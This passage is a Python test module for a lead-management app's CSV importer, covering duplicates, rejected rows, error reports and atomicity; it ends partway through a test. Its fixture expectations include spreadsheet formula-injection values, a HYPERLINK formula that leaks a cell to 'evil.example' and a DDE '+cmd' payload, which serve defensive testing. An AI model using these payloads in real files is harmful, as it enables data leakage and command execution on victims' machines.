"""CSV import as a user meets it: real exports, duplicates, rejected rows, atomicity, undo.

Every test that says "nothing was written" compares a full dump of every table
(``dump``) before and after, so a stray batch row, owner or history row fails it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Collection, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import column, func, inspect, select, table

from leaddesk.core.clock import FixedClock
from leaddesk.core.csv_import.mapping import ColumnMapping, suggest_mapping
from leaddesk.core.dedupe import ExactKeyScreen, KeyScreen, person_name, same_person_name
from leaddesk.core.fields import Consent
from leaddesk.core.scoring import (
    DEFAULT_RULES,
    LeadFacts,
    NewLeadScorer,
    RuleKind,
    ScoreRule,
    ScoreSettings,
    score_lead,
)
from leaddesk.errors import UserError
from leaddesk.operations import import_batch, import_bulk, importing
from leaddesk.operations.context import OperationContext
from leaddesk.operations.import_presets import (
    list_presets,
    preset_for_headers,
    resolve_mapping,
    save_preset,
)
from leaddesk.operations.importing import (
    DuplicatePolicy,
    ImportCancelled,
    ImportOptions,
    ImportResult,
    import_csv,
    undo_import,
)
from leaddesk.operations.leads import create_lead, update_lead
from leaddesk.operations.scoring import rescore_leads
from leaddesk.storage.database import Database, Location, open_database
from leaddesk.storage.schema import import_batches, import_changes, leads, owners, stage_history
from leaddesk.storage.search import search_condition

REPO_ROOT = Path(__file__).resolve().parents[2]
FIXTURES = REPO_ROOT / "tests" / "fixtures" / "csv"
SAMPLES = REPO_ROOT.parent / "shared" / "samples"
FIXTURE_FILES = sorted(FIXTURES.glob("*.csv"))
SAMPLE_FILES = sorted(p for p in SAMPLES.iterdir() if p.is_file()) if SAMPLES.is_dir() else []
LATER = dt.timedelta(minutes=5)
# The time of the `clock` fixture (tests/conftest.py), when each test starts.
TEST_NOW = dt.datetime(2026, 11, 17, 10, 30, tzinfo=dt.UTC)
# The FTS5 index of the search box is an external-content table: ``lead_search``
# itself reads the text from ``leads``; these hold the index's own pages.
FTS_SHADOW_TABLES = frozenset(
    {"lead_search_config", "lead_search_data", "lead_search_docsize", "lead_search_idx"}
)


# --- helpers -----------------------------------------------------------------------


def dump(db: Database, *, skip: Collection[str] = ()) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table (and the schema itself), ordered by primary key."""
    inspector = inspect(db.engine)
    tables: dict[str, list[tuple[Any, ...]]] = {}
    with db.reading() as connection:
        for name in sorted(inspector.get_table_names()):
            if name == "lead_search" or name in skip:
                continue  # a view onto `leads`, which is dumped itself
            columns = [info["name"] for info in inspector.get_columns(name)]
            keys = inspector.get_pk_constraint(name)["constrained_columns"] or columns
            source = table(name, *(column(c) for c in columns))
            query = select(*source.c).order_by(*(source.c[k] for k in keys))
            tables[name] = [tuple(row) for row in connection.execute(query)]
        if db.dialect == "sqlite":
            schema = connection.exec_driver_sql(
                "SELECT type, name, sql FROM sqlite_master ORDER BY type, name"
            )
            tables["sqlite_master"] = [tuple(row) for row in schema]
    return tables


def assert_same_dump(
    before: dict[str, list[tuple[Any, ...]]], after: dict[str, list[tuple[Any, ...]]]
) -> None:
    assert before.keys() == after.keys()
    for name in before:
        assert after[name] == before[name], f"table {name} changed"


def write_csv(
    path: Path,
    rows: Sequence[Sequence[str]],
    *,
    encoding: str = "utf-8",
    delimiter: str = ",",
    line_ending: str = "\r\n",
) -> Path:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator=line_ending).writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def lead_rows(ctx: OperationContext) -> list[dict[str, Any]]:
    """Every stored lead with its owner's name, oldest first."""
    query = (
        select(leads, owners.c.name.label("owner_name"))
        .select_from(leads.outerjoin(owners, leads.c.owner_id == owners.c.id))
        .order_by(leads.c.id)
    )
    with ctx.db.reading() as connection:
        return [dict(row._mapping) for row in connection.execute(query)]


def lead_named(ctx: OperationContext, first: str, last: str) -> dict[str, Any]:
    found = [r for r in lead_rows(ctx) if (r["first_name"], r["last_name"]) == (first, last)]
    assert len(found) == 1, f"{first} {last}: {len(found)} leads"
    return found[0]


def run_import(
    ctx: OperationContext,
    path: Path,
    policy: DuplicatePolicy = DuplicatePolicy.SKIP,
    **options: Any,
) -> ImportResult:
    result = import_csv(ctx, path, ImportOptions(policy=policy, **options))
    assert result.created + result.updated + result.skipped + result.rejected == result.rows
    return result


def batch_of(result: ImportResult) -> int:
    assert result.batch_id is not None
    return result.batch_id


def count(ctx: OperationContext, source: Any) -> int:
    with ctx.db.reading() as connection:
        return int(connection.execute(select(func.count()).select_from(source)).scalar_one())


def decoded(path: Path) -> str:
    """The file's text, decoded without the app's reader."""
    raw = path.read_bytes()
    if raw.startswith((b"\xff\xfe", b"\xfe\xff")):
        return raw.decode("utf-16")
    try:
        return raw.decode("utf-8-sig")
    except UnicodeDecodeError:
        return raw.decode("cp1252")


def records(path: Path) -> tuple[list[str], list[list[str]]]:
    """Header and non-blank data records, read with the standard csv module."""
    content = decoded(path)
    delimiter = max(",;\t|", key=content.count)
    rows = list(csv.reader(io.StringIO(content, newline=""), delimiter=delimiter))
    start = next(i for i, row in enumerate(rows) if sum(bool(c.strip()) for c in row) >= 2)
    return rows[start], [row for row in rows[start + 1 :] if any(c.strip() for c in row)]


EMAIL_CELL = re.compile(r"[^@\s]+@[^@\s]+\.[A-Za-z]{2,}")
# The phone column of each export the fixtures and samples imitate (the first
# one present wins: Outlook's "Business Phone" before its "Mobile Phone").
PHONE_HEADERS = (
    "Phone Number",
    "Phone",
    "Telefon",
    "Teléfono",
    "Business Phone",
    "Person - Phone - Mobile",
    "Phone 1 - Value",
)


def phone_cells(header: list[str], data: list[list[str]]) -> list[str]:
    """The phone column's non-empty cells ('-' means none), or [] without one."""
    index = next((header.index(h) for h in PHONE_HEADERS if h in header), None)
    if index is None:
        return []
    return [row[index] for row in data if row[index].strip() not in ("", "-")]


# --- every real file, no manual mapping ------------------------------------------------

REAL_FILES = [pytest.param(p, id=f"fixture-{p.name}") for p in FIXTURE_FILES] + (
    [pytest.param(p, id=f"sample-{p.name}") for p in SAMPLE_FILES]
    or [pytest.param(None, id="samples", marks=pytest.mark.skip(reason="no ../shared/samples"))]
)


def test_the_suite_clock_is_test_now(clock: FixedClock) -> None:
    assert clock.now() == TEST_NOW


def test_the_fixtures_are_all_there() -> None:
    # A renamed or lost fixture must not silently shrink the parametrised tests.
    assert len(FIXTURE_FILES) >= 11


@pytest.mark.parametrize("path", REAL_FILES)
def test_every_real_file_imports_whole_without_a_mapping(ctx: OperationContext, path: Path) -> None:
    header, data = records(path)
    cells = [cell for row in data for cell in row]

    result = run_import(ctx, path)

    assert (result.created, result.updated, result.skipped, result.rejected) == (
        len(data),
        0,
        0,
        0,
    )
    stored = lead_rows(ctx)
    assert len(stored) == len(data)
    for lead in stored:
        assert lead["first_name"] or lead["last_name"]
        for name in (lead["first_name"], lead["last_name"]):
            # Accents intact: the stored name is written in the file exactly so.
            assert name is None or any(name in cell for cell in cells), name
        assert lead["import_batch_id"] == result.batch_id
    file_emails = {
        c.strip().lower() for row in data for c in row if EMAIL_CELL.fullmatch(c.strip())
    }
    assert {lead["email"] for lead in stored if lead["email"]} == file_emails
    assert sum(bool(lead["phone"]) for lead in stored) == len(phone_cells(header, data))
    # The score written by the importer's fast scorer is the score the app computes.
    with ctx.db.transaction() as connection:
        rescore_leads(connection, [lead["id"] for lead in stored], TEST_NOW)
    assert [lead["score"] for lead in lead_rows(ctx)] == [lead["score"] for lead in stored]


def utc(year: int, month: int, day: int, hour: int = 0, minute: int = 0) -> dt.datetime:
    return dt.datetime(year, month, day, hour, minute, tzinfo=dt.UTC)


# (file, (first name, last name), expected stored values). "owner_name" is the
# owner's name; created_at is the file's created date, else the import's time.
FIXTURE_ROWS: list[tuple[str, tuple[str, str], dict[str, Any]]] = [
    (
        "hubspot_contacts.csv",
        ("Émile", "Schäfer"),
        {
            "email": "emile.schafer@example.com",
            "phone": "+442079460000",
            "company": "Acme, Inc.",
            "job_title": "CEO",
            "stage": "lead",
            "consent": "granted",
            "owner_name": "Sam Seller",
            "created_at": utc(2026, 8, 16, 9, 30),
        },
    ),
    (
        "hubspot_contacts.csv",
        ("María", "Gómez"),
        {
            "stage": "mql",
            "consent": "unknown",
            "company": 'Blue "Sky" Partners',
            "created_at": utc(2026, 10, 25, 9, 30),
        },
    ),
    ("hubspot_contacts.csv", ("Zoë", "Östlund"), {"stage": "customer", "company": "Øresund Foods"}),
    (
        "pipedrive_people.csv",
        ("Mary-Jane", "Berg"),
        {
            "email": "mary-jane.berg@example.com",
            "phone": "+49301234000",
            "temperature": "hot",
            "consent": "granted",
            "job_title": "Head of Operations",
            "created_at": utc(2026, 5, 9, 14, 5),
        },
    ),
    (
        "pipedrive_people.csv",
        ("Oğuz", "Quiñones"),
        {
            "email": "oguz.q@example.net",
            "temperature": "cold",
            "consent": "denied",
            "notes": "Met at the fair.\nWants a call back in March",
        },
    ),
    (
        "pipedrive_people.csv",
        ("Ludwig", "van der Berg"),
        {"temperature": "warm", "company": "Kühne & Söhne"},
    ),
    (
        "salesforce_leads.csv",
        ("Renée", "Dvořák"),
        {
            "temperature": "hot",
            "consent": "unknown",
            "company": "Café Olé S.L.",
            "created_at": utc(2026, 10, 3, 10, 0),
        },
    ),
    (
        "salesforce_leads.csv",
        ("Chloé", "Castaño"),
        {
            "temperature": "warm",
            "consent": "denied",
            "stage": "customer",
            "phone": "+442079460001",
            "created_at": utc(2026, 9, 16, 23, 30),
        },
    ),
    (
        "excel_de_semicolon_cp1252.csv",
        ("Jürgen", "Weiß"),
        {
            "email": "juergen.weiss@example.de",
            "phone": "030 5550001",  # no default country: kept as typed
            "company": "Kühne & Söhne",
            "job_title": "Geschäftsführer",
            "created_at": utc(2026, 4, 3),
        },
    ),
    (
        "excel_de_semicolon_cp1252.csv",
        ("Søren", "Håkansson"),
        {"company": "Müller, Meier GmbH", "phone": "+49301234009", "created_at": utc(2026, 12, 25)},
    ),
    (
        "excel_unicode_text_utf16.csv",
        ("Đorđe", "Jovanović"),
        {"email": "dorde@example.rs", "company": "Beograd, d.o.o.", "country": "Serbia"},
    ),
    ("excel_unicode_text_utf16.csv", ("Yūki", "Tanaka"), {"created_at": TEST_NOW}),
    (
        "google_contacts.csv",
        ("Núria", "Puig"),
        {"phone": "+34612345678", "company": "Café Olé S.L.", "job_title": "Gerente"},
    ),
    (
        "linkedin_connections.csv",
        ("Anaïs", "Lefèvre"),
        {"email": None, "company": "Société Générale", "created_at": utc(2026, 5, 9)},
    ),
    ("linkedin_connections.csv", ("Björn", "Berg"), {"created_at": utc(2025, 1, 14)}),
    (
        "old_mac_cr.csv",
        ("Hélène", "Martin"),
        {"email": "helene.martin@example.fr", "expected_close_date": dt.date(2026, 7, 31)},
    ),
    ("old_mac_cr.csv", ("Agnès", "Roux"), {"expected_close_date": dt.date(2026, 12, 1)}),
    (
        "outlook_contacts.csv",
        ("François", "Dupré"),
        {"phone": "+33123456789", "job_title": "Head of Sales", "notes": "Met at the fair"},
    ),
    (
        "pipe_delimited.csv",
        ("José", "García López"),
        {"phone": "+34911234567", "company": "Ñandú S.A.", "job_title": "Director"},
    ),
    (
        "formula_cells.csv",
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "Injected"),
        {"company": "@SUM(1+1)", "notes": "-2+3", "phone": "+15550100"},
    ),
    (
        "formula_cells.csv",
        ("Tab", "Start"),  # the tab before "Start" is surrounding white space
        {"phone": "=1+1", "company": "+cmd|' /C calc'!A0", "notes": "=1"},
    ),
]

SAMPLE_ROWS: list[tuple[str, tuple[str, str], dict[str, Any]]] = [
    (
        "hubspot_contacts.csv",
        ("Wojciech", "Östlund"),
        {
            "stage": "sql",  # Lifecycle Stage "salesqualifiedlead"
            "email": "wojciech.stlund2@example.net",
            "phone": "(555) 201-0002",
            "company": "Sakura Trading K.K.",
            "created_at": utc(2026, 1, 1, 9, 30),
            "owner_name": "Sam Seller",
        },
    ),
    ("hubspot_contacts.csv", ("Ulrike", "Rossi"), {"stage": "opportunity"}),
    ("hubspot_contacts.csv", ("Hana", "Müller"), {"stage": "opportunity", "consent": "granted"}),
    (
        "pipedrive_people.csv",
        ("Mary-Jane", "Berg"),
        {"temperature": "hot", "consent": "granted", "company": 'Blue "Sky" Partners'},
    ),
    (
        "pipedrive_people.csv",
        ("Oğuz", "Quiñones"),
        {"temperature": "cold", "consent": "denied", "created_at": utc(2026, 6, 13, 14, 5)},
    ),
    ("pipedrive_people.csv", ("Grzegorz", "Takács"), {"temperature": "warm"}),
    (
        "salesforce_leads.csv",
        ("Hana", "Schäfer"),
        {"temperature": "hot", "consent": "unknown", "job_title": "Engineer"},
    ),
    (
        "salesforce_leads.csv",
        ("Ana", "Papadopoulos"),
        {
            "email": "ana.papadopoulos1@example.net",
            "temperature": "warm",
            "consent": "denied",
            "created_at": utc(2026, 9, 16, 10),
        },
    ),
    # Same company and last name as "Hana Schäfer", different email and phone:
    # another person, who must not be skipped as her duplicate.
    (
        "salesforce_leads.csv",
        ("Ana", "Schäfer"),
        {"email": "ana.schfer17@example.com", "temperature": "cold", "consent": "denied"},
    ),
    (
        "excel_semicolon_cp1252.csv",
        ("Quentin", "Rossi"),
        {"company": "Café Olé S.L.", "created_at": utc(2026, 7, 7), "budget_range": "2750,50"},
    ),
    (
        "formula_cells.csv",
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "Injected"),
        {"company": "@SUM(1+1)", "notes": "-2+3"},
    ),
    ("formula_cells.csv", ("Tab", "Start"), {"phone": "=1+1", "company": "+cmd|' /C calc'!A0"}),
]


def _check_row(ctx: OperationContext, path: Path, name: tuple[str, str], expected: Any) -> None:
    run_import(ctx, path)
    named = [r for r in lead_rows(ctx) if (r["first_name"], r["last_name"]) == name]
    if len(named) > 1 and "email" in expected:  # two people of that name in the file
        named = [r for r in named if r["email"] == expected["email"]]
    assert len(named) == 1, named
    lead = named[0]
    assert {key: lead[key] for key in expected} == expected


@pytest.mark.parametrize(
    ("file_name", "name", "expected"),
    [pytest.param(*row, id=f"{row[0]}-{row[1][0][:12]}") for row in FIXTURE_ROWS],
)
def test_fixture_rows_are_stored_as_the_file_says(
    ctx: OperationContext, file_name: str, name: tuple[str, str], expected: dict[str, Any]
) -> None:
    _check_row(ctx, FIXTURES / file_name, name, expected)


@pytest.mark.parametrize(
    ("file_name", "name", "expected"),
    [pytest.param(*row, id=f"{row[0]}-{row[1][0][:12]}") for row in SAMPLE_ROWS],
)
def test_sample_rows_are_stored_as_the_file_says(
    ctx: OperationContext, file_name: str, name: tuple[str, str], expected: dict[str, Any]
) -> None:
    path = SAMPLES / file_name
    if not path.is_file():
        pytest.skip(f"{path} is not here (only in the shared workspace)")
    _check_row(ctx, path, name, expected)


def test_rows_with_warnings_are_imported_and_counted(ctx: OperationContext) -> None:
    result = run_import(ctx, FIXTURES / "excel_de_semicolon_cp1252.csv")
    assert (result.created, result.rejected) == (2, 0)
    assert result.warnings == 1  # "030 5550001": no default country, kept as typed


def test_a_default_region_turns_national_numbers_international(ctx: OperationContext) -> None:
    run_import(ctx, FIXTURES / "excel_de_semicolon_cp1252.csv", default_region="DE")
    assert lead_named(ctx, "Jürgen", "Weiß")["phone"] == "+49305550001"


# --- duplicates --------------------------------------------------------------------

HEADER = ["First Name", "Last Name", "Email", "Phone", "Company", "Job Title", "Notes"]
DUP_HEADER = [*HEADER, "Lifecycle Stage", "Marketing contact status", "Temperature"]
# The existing lead, and how a later row may name the same person.
EXISTING = {
    "first_name": "Jürgen",
    "last_name": "Schäfer",
    "email": "Juergen.Schaefer@Acme.example",
    "phone": "+49 30 1234567",
    "company": "Acme, Inc.",
    "notes": "Met at the fair",
    "stage": "mql",
    "consent": "denied",
    "temperature": "warm",
}
SAME_PERSON = {
    "email": ["Jürgen", "Schäfer", "JUERGEN.SCHAEFER@acme.EXAMPLE", "", ""],
    "phone": ["Jürgen", "Schäfer", "", "0049 (30) 123-45-67", ""],
    "name+company": ["Jurgen", "Schafer", "", "", "ACME inc"],
}
# What the row says besides who it is: a title the lead lacks, a note it has,
# an earlier stage, a consent the lead has denied, another temperature.
ROW_EXTRAS = ["CEO", "Called back", "lead", "Marketing contact", "hot"]


def _dup_file(tmp_path: Path, *rows: list[str]) -> Path:
    return write_csv(tmp_path / "dups.csv", [DUP_HEADER, *rows])


@pytest.mark.parametrize("key", list(SAME_PERSON))
@pytest.mark.parametrize("policy", list(DuplicatePolicy))
def test_a_row_matching_an_existing_lead_follows_the_policy(
    ctx: OperationContext, tmp_path: Path, key: str, policy: DuplicatePolicy
) -> None:
    lead_id, _ = create_lead(ctx, EXISTING)
    before = lead_rows(ctx)[0]
    incoming = SAME_PERSON[key]
    path = _dup_file(tmp_path, [*incoming, *ROW_EXTRAS])

    result = run_import(ctx, path, policy)

    assert result.rows == 1
    stored = lead_rows(ctx)
    if policy is DuplicatePolicy.CREATE:
        assert (result.created, result.updated, result.skipped) == (1, 0, 0)
        assert len(stored) == 2
        assert stored[0] == before
        return
    assert len(stored) == 1
    after = stored[0]
    if policy is DuplicatePolicy.SKIP:
        assert (result.created, result.updated, result.skipped) == (0, 0, 1)
        assert after == before
        return
    assert (result.created, result.updated, result.skipped) == (0, 1, 0)
    assert after["id"] == lead_id
    assert after["job_title"] == "CEO"  # was empty: filled under fill and overwrite
    assert after["stage"] == "mql"  # never moves backwards
    assert after["consent"] == "denied"  # a denial is never replaced
    assert after["email"] == before["email"]  # the row has no email: nothing erased
    if policy is DuplicatePolicy.FILL:
        assert (after["first_name"], after["notes"], after["temperature"]) == (
            "Jürgen",
            "Met at the fair",
            "warm",
        )
    else:
        assert (after["first_name"], after["notes"], after["temperature"]) == (
            incoming[0],
            "Called back",
            "hot",
        )
    assert after["version"] == before["version"] + 1
    assert after["updated_at"] == TEST_NOW


@pytest.mark.parametrize("chunk_rows", [2000, 1])
@pytest.mark.parametrize("key", list(SAME_PERSON))
@pytest.mark.parametrize("policy", list(DuplicatePolicy))
def test_a_row_matching_an_earlier_row_of_the_file_follows_the_policy(
    ctx: OperationContext,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    key: str,
    policy: DuplicatePolicy,
    chunk_rows: int,
) -> None:
    # chunk_rows=1 puts the earlier row in an earlier chunk, already inserted.
    monkeypatch.setattr(importing, "CHUNK_ROWS", chunk_rows)
    first = ["Jürgen", "Schäfer", "juergen.schaefer@acme.example", "+49 30 1234567", "Acme, Inc."]
    path = _dup_file(
        tmp_path,
        [*first, "", "Met at the fair", "mql", "", "warm"],
        [*SAME_PERSON[key], "CEO", "Called back", "opportunity", "Marketing contact", "hot"],
        ["Other", "Person", "other@example.com", "", "", "", "", "", "", ""],
    )

    result = run_import(ctx, path, policy)

    assert result.rows == 3
    stored = lead_rows(ctx)
    if policy is DuplicatePolicy.CREATE:
        assert (result.created, result.updated, result.skipped) == (3, 0, 0)
        return
    assert len(stored) == 2
    lead = stored[0]
    assert (lead["email"], lead["phone"]) == ("juergen.schaefer@acme.example", "+49301234567")
    if policy is DuplicatePolicy.SKIP:
        assert (result.created, result.updated, result.skipped) == (2, 0, 1)
        assert (lead["job_title"], lead["stage"], lead["temperature"]) == (None, "mql", "warm")
        return
    assert (result.created, result.updated, result.skipped) == (2, 1, 0)
    assert lead["job_title"] == "CEO"
    if policy is DuplicatePolicy.FILL:
        assert (lead["notes"], lead["stage"], lead["temperature"]) == (
            "Met at the fair",
            "mql",
            "warm",
        )
    else:
        assert (lead["notes"], lead["stage"], lead["temperature"]) == (
            "Called back",
            "opportunity",
            "hot",
        )
        assert lead["consent"] == "granted"  # unknown may become granted
    with ctx.db.reading() as connection:
        assert connection.execute(select(func.count()).select_from(import_changes)).scalar() == 0
    # The merged lead is found by what the later row gave it, and only once.
    assert _search(ctx, "CEO") == [lead["id"]]
    _fts_consistent(ctx.db)


@pytest.mark.parametrize(
    "spelling", ["0049 30 1234567", "+49 (30) 123-45-67", "+49.30.1234567", "+4930 1234567"]
)
def test_phones_match_in_any_spelling(ctx: OperationContext, tmp_path: Path, spelling: str) -> None:
    create_lead(ctx, {"first_name": "Anna", "last_name": "Berg", "phone": "+49 30 1234567"})
    path = write_csv(tmp_path / "p.csv", [HEADER, ["Annika", "Bergmann", "", spelling, "", "", ""]])
    result = run_import(ctx, path)
    assert (result.created, result.skipped) == (0, 1)


def test_a_phone_with_00_before_the_country_code_is_stored_international(
    ctx: OperationContext, tmp_path: Path
) -> None:
    path = write_csv(
        tmp_path / "p.csv", [HEADER, ["Anna", "Berg", "", "0049 30 1234567", "", "", ""]]
    )
    result = run_import(ctx, path)
    assert (result.created, result.warnings) == (1, 0)
    assert lead_rows(ctx)[0]["phone"] == "+49301234567"


def test_a_national_phone_matches_with_the_default_region(
    ctx: OperationContext, tmp_path: Path
) -> None:
    create_lead(ctx, {"first_name": "Anna", "last_name": "Berg", "phone": "+49 30 1234567"})
    path = write_csv(tmp_path / "p.csv", [HEADER, ["A.", "Berg", "", "030 1234567", "", "", ""]])
    result = run_import(ctx, path, default_region="DE")
    assert (result.created, result.skipped) == (0, 1)


@pytest.mark.parametrize(
    ("row", "duplicate"),
    [
        (["Jurgen", "Schafer", "", "", "ACME inc"], True),
        (["JÜRGEN", "SCHÄFER", "", "", "acme"], True),
        (["Jürgen", "Schaefer", "", "", "Acme Inc."], True),
        # Another person at the same company, or the same name at another company.
        (["Hana", "Schäfer", "", "", "ACME inc"], False),
        (["Jürgen", "Schäfer", "", "", "Acme Logistics"], False),
        (["Jürgen", "Schäfer", "", "", ""], False),
    ],
)
def test_close_names_match_only_at_the_same_company(
    ctx: OperationContext, tmp_path: Path, row: list[str], duplicate: bool
) -> None:
    create_lead(ctx, {"first_name": "Jürgen", "last_name": "Schäfer", "company": "Acme, Inc."})
    path = write_csv(tmp_path / "n.csv", [HEADER, [*row, "", ""]])
    result = run_import(ctx, path)
    assert (result.created, result.skipped) == ((0, 1) if duplicate else (1, 0))


def test_overwrite_moves_a_stage_forward_and_records_it(
    ctx: OperationContext, tmp_path: Path, clock: FixedClock
) -> None:
    lead_id, _ = create_lead(ctx, {"first_name": "Anna", "email": "anna@example.com"})
    clock.advance(LATER)
    path = write_csv(
        tmp_path / "s.csv",
        [
            ["Email", "Lifecycle Stage", "Marketing contact status"],
            ["anna@example.com", "sql", "Marketing contact"],
        ],
    )
    run_import(ctx, path, DuplicatePolicy.OVERWRITE)
    lead = lead_rows(ctx)[0]
    assert (lead["stage"], lead["consent"], lead["stage_changed_at"]) == (
        "sql",
        "granted",
        TEST_NOW + LATER,
    )
    with ctx.db.reading() as connection:
        history = connection.execute(
            select(stage_history.c.from_stage, stage_history.c.to_stage)
            .where(stage_history.c.lead_id == lead_id)
            .order_by(stage_history.c.id)
        ).all()
    assert [tuple(h) for h in history] == [(None, "lead"), ("lead", "sql")]


# --- rejected rows and the error report ------------------------------------------

REJECT_ROWS = [
    ["First Name", "Last Name", "Email", "Phone", "Company", "Create Date", "Notes"],
    ["Anna", "Berg", "ANNA@Example.com", "+49 30 1234567", "Acme", "2026-01-02", "ok"],
    ["", "", "", "", "Nobody Inc", "2026-01-03", "  spaced  "],
    ["Bob", "Stone", "bob@example.com", "", "Stone Ltd", "31/02/2026", "two\nlines"],
    ["Cara", "Lin", "cara@example.com", "12345", "Lin, Co", "", 'Zoë "quoted"'],
    ["Dora", "Weiß", "dora@example.com", "", "", "not a date", "=1+1"],
]


def test_rejected_rows_have_their_line_and_a_reason(ctx: OperationContext, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "r.csv", REJECT_ROWS)

    result = run_import(ctx, path)

    assert (result.created, result.updated, result.skipped, result.rejected) == (2, 0, 0, 3)
    assert result.warnings >= 1  # Cara's phone "12345" was kept as typed
    assert {(lead["first_name"], lead["phone"]) for lead in lead_rows(ctx)} == {
        ("Anna", "+49301234567"),
        ("Cara", "12345"),
    }
    # Bob's note spans lines 4-5, so Dora's row starts on line 7.
    assert [r.line_number for r in result.rejected_sample] == [3, 4, 7]
    assert [r.cells for r in result.rejected_sample] == [
        REJECT_ROWS[2],
        REJECT_ROWS[3],
        REJECT_ROWS[5],
    ]
    reasons = [r.reason for r in result.rejected_sample]
    assert "no name, email or phone" in reasons[0]
    assert "Create Date" in reasons[1]
    assert "31/02/2026" in reasons[1]
    assert "not a date" in reasons[2]
    for reason in reasons:
        assert reason.endswith(".")
        assert "\n" not in reason


def test_the_error_report_holds_the_rejected_rows_as_they_were(
    ctx: OperationContext, tmp_path: Path
) -> None:
    path = write_csv(tmp_path / "r.csv", REJECT_ROWS)
    result = run_import(ctx, path)
    report = tmp_path / "errors.csv"

    result.write_error_report(report)

    raw = report.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel shows the accents
    written = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    reasons = [r.reason for r in result.rejected_sample]
    assert written == [
        [*REJECT_ROWS[0], "Line", "Reason"],
        [*REJECT_ROWS[2], "3", reasons[0]],
        [*REJECT_ROWS[3], "4", reasons[1]],
        [*REJECT_ROWS[5], "7", reasons[2]],
    ]


def test_the_error_report_of_a_cp1252_file_keeps_its_accents(
    ctx: OperationContext, tmp_path: Path
) -> None:
    rows = [
        ["Vorname", "Nachname", "E-Mail", "Firma", "Erstellt am"],
        ["Jürgen", "Weiß", "jw@example.de", "Kühne & Söhne", "kein Datum"],
        ["Søren", "Håkansson", "sh@example.de", "Müller, Meier GmbH", "03.04.2026"],
    ]
    path = write_csv(tmp_path / "de.csv", rows, encoding="cp1252", delimiter=";")
    result = run_import(ctx, path)
    assert (result.created, result.rejected) == (1, 1)
    report = tmp_path / "errors.csv"
    result.write_error_report(report)
    written = list(csv.reader(io.StringIO(report.read_text("utf-8-sig"), newline="")))
    assert written[0] == [*rows[0], "Line", "Reason"]
    assert written[1][:-1] == [*rows[1], "2"]
    assert len(written) == 2


def test_an_error_report_without_rejections_has_only_the_headers(
    ctx: OperationContext, tmp_path: Path
) -> None:
    result = run_import(ctx, FIXTURES / "hubspot_contacts.csv")
    report = tmp_path / "errors.csv"
    result.write_error_report(report)
    header, _ = records(FIXTURES / "hubspot_contacts.csv")
    assert list(csv.reader(io.StringIO(report.read_text("utf-8-sig")))) == [
        [*header, "Line", "Reason"]
    ]


def test_an_error_report_that_cannot_be_written_is_a_user_error(
    ctx: OperationContext, tmp_path: Path
) -> None:
    result = run_import(ctx, write_csv(tmp_path / "r.csv", REJECT_ROWS))
    with pytest.raises(UserError, match="Cannot write"):
        result.write_error_report(tmp_path / "missing folder" / "errors.csv")


# --- files that cannot be used -----------------------------------------------------


def _unusable(tmp_path: Path, kind: str) -> Path:
    path = tmp_path / f"{kind}.csv"
    if kind == "empty":
        path.write_bytes(b"")
    elif kind == "blank lines":
        path.write_bytes(b"\r\n  \r\n\r\n")
    elif kind == "binary":
        path.write_bytes(bytes(range(256)) * 8)
    elif kind == "png":
        path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00" + b"\x00" * 64)
    elif kind == "folder":
        path.mkdir()
    elif kind == "no identifying column":
        write_csv(path, [["Company", "Notes", "City"], ["Acme", "hello", "Berlin"]])
    elif kind == "missing":
        pass
    return path


UNUSABLE = ["empty", "blank lines", "binary", "png", "folder", "no identifying column", "missing"]


@pytest.mark.parametrize("kind", UNUSABLE)
def test_an_unusable_file_is_refused_in_one_sentence_and_nothing_is_written(
    ctx: OperationContext, tmp_path: Path, kind: str
) -> None:
    create_lead(ctx, {"first_name": "Anna", "email": "anna@example.com"})
    before = dump(ctx.db)
    path = _unusable(tmp_path, kind)

    with pytest.raises(UserError) as refused:
        import_csv(ctx, path)

    message = str(refused.value)
    assert message.endswith(".")
    assert "\n" not in message
    assert "Traceback" not in message
    assert_same_dump(before, dump(ctx.db))


# --- atomicity ---------------------------------------------------------------------


def _people(tmp_path: Path, n: int, name: str = "people.csv") -> Path:
    rows = [["First Name", "Last Name", "Email", "Company", "Contact owner", "Lifecycle Stage"]]
    rows += [
        [f"Given{i}", f"Family{i}", f"p{i}@example.com", f"Company {i}", f"Owner {i % 3}", "mql"]
        for i in range(n)
    ]
    return write_csv(tmp_path / name, rows)


@pytest.fixture
def existing(ctx: OperationContext) -> int:
    """A lead the file updates under fill/overwrite (it is row 0 of ``_people``)."""
    lead_id, _ = create_lead(ctx, {"first_name": "Given0", "email": "P0@example.com"})
    return lead_id


def _fail_on_second_call(
    monkeypatch: pytest.MonkeyPatch, owner: type, name: str, message: str
) -> list[Any]:
    """Make ``owner.name`` fail on its second call; returns each call's last argument."""
    original = getattr(owner, name)
    calls: list[Any] = []

    def failing(*args: Any) -> Any:
        calls.append(args[-1])
        if len(calls) == 2:
            raise RuntimeError(message)
        return original(*args)

    monkeypatch.setattr(owner, name, failing)
    return calls


def test_an_error_part_way_leaves_the_database_as_it_was(
    ctx: OperationContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, existing: int
) -> None:
    monkeypatch.setattr(importing, "CHUNK_ROWS", 3)
    chunks = _fail_on_second_call(
        monkeypatch, import_batch.ImportBatchWriter, "process_chunk", "disk on fire"
    )
    before = dump(ctx.db)

    with pytest.raises(RuntimeError, match="disk on fire"):
        import_csv(ctx, _people(tmp_path, 10), ImportOptions(policy=DuplicatePolicy.OVERWRITE))

    assert list(map(len, chunks)) == [3, 3]  # the first chunk was written before the failure
    assert_same_dump(before, dump(ctx.db))


def test_a_failure_of_the_statements_off_the_thread_leaves_the_database_as_it_was(
    ctx: OperationContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, existing: int
) -> None:
